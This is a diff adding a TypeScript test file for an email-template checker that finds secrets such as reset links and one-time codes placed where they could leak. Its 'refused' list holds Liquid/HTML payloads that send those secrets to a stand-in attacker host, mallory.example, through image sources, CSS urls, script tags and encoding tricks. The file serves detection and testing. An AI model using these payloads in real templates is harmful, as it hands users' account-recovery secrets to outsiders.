@@ -1,0 +1,98 @@
+import { secretPlaces } from '../../../domain/email/secret-places';
+import { isSecretName } from '../../../domain/transactional/secret-names';
+import { catalogTemplates } from '../../../domain/email/catalog/catalog';
+import { secretProblems } from '../../../domain/email/render-transactional';
+
+const refused: [string, string][] = [
+  ['<img src="{{ reset_url }}">', 'src of <img>'],
+  ['<img src="{{reset_url}}">', 'src of <img>'],
+  ['<img src={{ resetUrl }}>', 'src of <img>'],
+  ['<img src="https://mallory.example/?{{ reset_url | url_encode }}">', 'src of <img>'],
+  ['<img src="https://mallory.example/?{{ "x" | append: reset_url }}">', 'src of <img>'],
+  ['<img alt="{{ code }}">', 'alt of <img>'],
+  ['<img src="https://mallory.example/{{ user.code }}">', 'src of <img>'],
+  ['<img src="https://mallory.example/{{ user["code"] }}">', 'src of <img>'],
+  ['<img src="https://mallory.example/{{ ["code"] }}">', 'src of <img>'],
+  ['{% assign k = "co" | append: "de" %}<img src="https://mallory.example/{{ [k] }}">', 'src of <img>'],
+  ['<area href="{{ reset_url }}">', 'href of <area>'],
+  ['<a title="{{ code }}" href="https://a.example">x</a>', 'title of <a>'],
+  ['<a href="https://a.example" {{ code }}>x</a>', 'of <a>'],
+  ['<p style="background: url(https://mallory.example/{{ code }})">', 'style of <p>'],
+  ['<style>p { background: url(https://mallory.example/{{ code }}) }</style>', '<style>'],
+  ['<script>{{ code }}</script>', '<script>'],
+  ['{% assign u = reset_url %}<img src="{{ u }}">', 'src of <img>'],
+  [
+    '{% assign u = reset_url | base64_encode %}{% assign v = u %}<img src="https://mallory.example/{{ v }}">',
+    'src of <img>',
+  ],
+  ['{% capture u %}x{{ reset_url }}{% endcapture %}<img src="https://mallory.example/{{ u }}">', 'src of <img>'],
+  [
+    '{% assign d = code | split: "" %}{% for c in d %}<img src="https://mallory.example/{{ c }}">{% endfor %}',
+    'src of <img>',
+  ],
+  ['{% liquid\n  assign u = code\n%}<img src="{{ u }}">', 'src of <img>'],
+  ['<img src="{% echo code %}">', 'src of <img>'],
+  ['<img src="{% cycle code, 1 %}">', 'src of <img>'],
+  ['<img src="{% liquid\n echo code %}">', 'src of <img>'],
+  ['<img {% if a %}src="{{ code }}"{% endif %}>', 'src of <img>'],
+  ['{% if a %}<a href="{% else %}<img src="{% endif %}{{ code }}">', 'of <a>'],
+  ['<!--[if mso]><v:rect src="{{ code }}"></v:rect><![endif]-->', 'src of <v:rect>'],
+  ["<img src='https://mallory.example/? {{ code }}", 'a tag that never ends'],
+];
+
+test.each(refused)('%s is refused, and the place is named', (source, place) => {
+  const places = secretPlaces(source);
+  expect(places).toHaveLength(1);
+  expect(places[0]).toMatch(/^A secret stands in .*may stand in text and in the href of a link/);
+  expect(places[0]).toContain(`${place}. A code`);
+});
+
+test.each([
+  '<p>{{ code }}</p>',
+  '<a href="{{ reset_url }}">{{ reset_url }}</a>',
+  "<a class='x' href='https://a.example/?c={{ code }}'>x</a>",
+  '<a {% if reset_url %}href="{{ reset_url }}"{% endif %}>x</a>',
+  '{% if code != blank %}<img src="https://a.example/1.png">{% endif %}{{ code }}',
+  '{% assign d = code | split: "" %}{% for c in d %}<td class="digit">{{ c }}</td>{% endfor %}',
+  '<!--[if mso]><a href="{{ reset_url }}">x</a><![endif]-->',
+  '<img src="https://a.example/{{ "code" | append: country_code }}.png" alt="{{ name }}">',
+  '<img src="{{ logo_url }}">{{ unfinished',
+  '',
+])('%s may stand', (source) => {
+  expect(secretPlaces(source)).toEqual([]);
+});
+
+test('names that open something are told from others', () => {
+  const secret = [
+    'reset_url',
+    'resetUrl',
+    'accept_url',
+    'approve_url',
+    'magic_link',
+    'code',
+    'verificationCode',
+    'api_token',
+    'otp',
+  ];
+  const harmless = [
+    'logo_url',
+    'onboarding_url',
+    'discount_code',
+    'country_code',
+    'url',
+    'link',
+    'name',
+    'codes_of_conduct',
+  ];
+  expect([secret.filter((name) => !isSecretName(name)), harmless.filter(isSecretName)]).toEqual([[], []]);
+});
+
+test('the catalog puts its secrets where they may stand', () => {
+  expect(catalogTemplates.flatMap(({ content }) => secretProblems(content))).toEqual([]);
+});
+
+test('a template of nothing but braces is read in time that grows with its length', () => {
+  for (const piece of ['{{', '{%', '{{ code ', '{{ code }}', '<img src="{{ code', "{% assign a = '"]) {
+    expect(Array.isArray(secretPlaces(piece.repeat(200_000 / piece.length)))).toBe(true);
+  }
+});
